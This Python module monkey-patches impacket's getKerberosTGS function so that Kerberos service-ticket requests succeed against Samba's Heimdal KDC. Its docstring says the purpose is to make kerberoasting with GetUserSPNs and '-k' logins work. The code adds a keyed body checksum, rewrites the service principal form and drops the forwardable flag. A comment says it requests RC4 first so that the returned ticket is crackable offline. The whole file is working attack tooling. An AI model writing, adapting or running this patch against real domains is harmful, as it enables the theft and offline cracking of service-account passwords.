"""Patch: a TGS-REQ that Samba's Heimdal KDC accepts.

impacket's kerberosv5.getKerberosTGS() differs from Windows clients in three ways
that Windows DCs tolerate and Samba 4.17 does not:

* its PA-TGS-REQ authenticator has no 'cksum' over the request body (optional in
  RFC 4120); Heimdal answers KRB_AP_ERR_INAPP_CKSUM. We add the keyed checksum
  (key usage 6) for the session key's enctype.
* it names the service NT-MS-PRINCIPAL "DOMAIN\\user" (GetUserSPNs does); Samba
  does not resolve that form (KDC_ERR_S_PRINCIPAL_UNKNOWN). We ask for NT-PRINCIPAL "user".
* it asks for forwardable+renewable; Heimdal answers KDC_ERR_BADOPTION when the
  TGT lacks those flags (impacket's RC4 TGTs do). We ask only for renewable-ok+canonicalize.

Without it: GetUserSPNs -request (kerberoasting) and every -k login fail.
"""
import datetime
import random

from impacket.krb5 import constants, kerberosv5
from impacket.krb5.asn1 import AP_REQ, AS_REP, TGS_REP, TGS_REQ, Authenticator, EncTGSRepPart, seq_set, seq_set_iter
from impacket.krb5.crypto import Key, _enctype_table, make_checksum
from impacket.krb5.types import KerberosTime, Principal, Ticket
from pyasn1.codec.der import decoder, encoder
from pyasn1.type.univ import noValue

# The checksum type that goes with each session-key enctype (RFC 3961/4757).
_CKSUM_FOR_ETYPE = {23: -138, 24: -138, 17: 15, 18: 16}


def _body_without_tag(der):
    """The DER of KDC-REQ-BODY without the [4] context tag impacket wraps it in."""
    length = der[1]
    start = 2 + (length & 0x7F if length & 0x80 else 0)
    return der[start:]


def _plain_principal(server):
    if server.type == constants.PrincipalNameType.NT_MS_PRINCIPAL.value and "\\" in str(server.components[0]):
        return Principal(str(server.components[0]).split("\\", 1)[1], type=constants.PrincipalNameType.NT_PRINCIPAL.value)
    return server


def getKerberosTGS(serverName, domain, kdcHost, tgt, cipher, sessionKey, renew=False):
    serverName = _plain_principal(serverName)
    try:
        decodedTGT = decoder.decode(tgt, asn1Spec=AS_REP())[0]
    except Exception:
        decodedTGT = decoder.decode(tgt, asn1Spec=TGS_REP())[0]
    domain = domain.upper()
    ticket = Ticket()
    ticket.from_asn1(decodedTGT["ticket"])

    tgsReq = TGS_REQ()
    tgsReq["pvno"] = 5
    tgsReq["msg-type"] = int(constants.ApplicationTagNumbers.TGS_REQ.value)
    reqBody = seq_set(tgsReq, "req-body")
    opts = [constants.KDCOptions.renewable_ok.value, constants.KDCOptions.canonicalize.value]
    if renew:
        opts.append(constants.KDCOptions.renew.value)
    reqBody["kdc-options"] = constants.encodeFlags(opts)
    seq_set(reqBody, "sname", serverName.components_to_asn1)
    reqBody["realm"] = domain
    reqBody["till"] = KerberosTime.to_asn1(datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(days=1))
    reqBody["nonce"] = random.getrandbits(31)
    # RC4 first: what a kerberoasting tool asks for, so the ticket is crackable offline.
    seq_set_iter(reqBody, "etype", (int(constants.EncryptionTypes.rc4_hmac.value),
                                    int(constants.EncryptionTypes.des3_cbc_sha1_kd.value),
                                    int(constants.EncryptionTypes.des_cbc_md5.value),
                                    int(cipher.enctype)))
    bodyDer = _body_without_tag(encoder.encode(reqBody))

    apReq = AP_REQ()
    apReq["pvno"] = 5
    apReq["msg-type"] = int(constants.ApplicationTagNumbers.AP_REQ.value)
    apReq["ap-options"] = constants.encodeFlags([])
    seq_set(apReq, "ticket", ticket.to_asn1)
    authenticator = Authenticator()
    authenticator["authenticator-vno"] = 5
    authenticator["crealm"] = decodedTGT["crealm"].asOctets()
    clientName = Principal()
    clientName.from_asn1(decodedTGT, "crealm", "cname")
    seq_set(authenticator, "cname", clientName.components_to_asn1)
    ctype = _CKSUM_FOR_ETYPE.get(int(sessionKey.enctype))
    if ctype is not None:
        authenticator["cksum"] = noValue
        authenticator["cksum"]["cksumtype"] = ctype
        authenticator["cksum"]["checksum"] = make_checksum(ctype, sessionKey, 6, bodyDer)
    now = datetime.datetime.now(datetime.timezone.utc)
    authenticator["cusec"] = now.microsecond
    authenticator["ctime"] = KerberosTime.to_asn1(now)
    apReq["authenticator"] = noValue
    apReq["authenticator"]["etype"] = cipher.enctype
    apReq["authenticator"]["cipher"] = cipher.encrypt(sessionKey, 7, encoder.encode(authenticator), None)

    tgsReq["padata"] = noValue
    tgsReq["padata"][0] = noValue
    tgsReq["padata"][0]["padata-type"] = int(constants.PreAuthenticationDataTypes.PA_TGS_REQ.value)
    tgsReq["padata"][0]["padata-value"] = encoder.encode(apReq)

    r = kerberosv5.sendReceive(encoder.encode(tgsReq), domain, kdcHost)
    tgs = decoder.decode(r, asn1Spec=TGS_REP())[0]
    plainText = cipher.decrypt(sessionKey, 8, tgs["enc-part"]["cipher"])
    encTGSRepPart = decoder.decode(plainText, asn1Spec=EncTGSRepPart())[0]
    newSessionKey = Key(encTGSRepPart["key"]["keytype"], encTGSRepPart["key"]["keyvalue"].asOctets())
    newCipher = _enctype_table[encTGSRepPart["key"]["keytype"]]
    spn = Principal()
    spn.from_asn1(tgs["ticket"], "realm", "sname")
    if spn.components[0] == serverName.components[0]:
        return r, newCipher, sessionKey, newSessionKey
    # A referral: follow it with the cross-realm TGT.
    return getKerberosTGS(serverName, spn.components[1], kdcHost, r, newCipher, newSessionKey)


def apply():
    kerberosv5.getKerberosTGS = getKerberosTGS
